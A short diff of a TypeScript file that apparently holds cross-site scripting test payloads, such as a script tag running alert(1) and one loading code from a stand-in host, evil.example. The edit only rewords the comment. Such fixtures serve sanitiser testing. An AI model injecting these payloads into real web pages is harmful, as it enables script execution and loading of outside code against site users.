@@ -1,7 +1,7 @@
 const run = 'alert(1)'
 const away = 'https://evil.example/x'
 
-/** Text that runs or calls home when it lands in HTML, an attribute, a style, a script or an address. */
+/** Text that runs or sends a request when it is inserted into HTML, an attribute, a style, a script or an address. */
 export const payloads: readonly string[] = [
   `<script>${run}</script>`,
   `<script src=${away}></script>`,
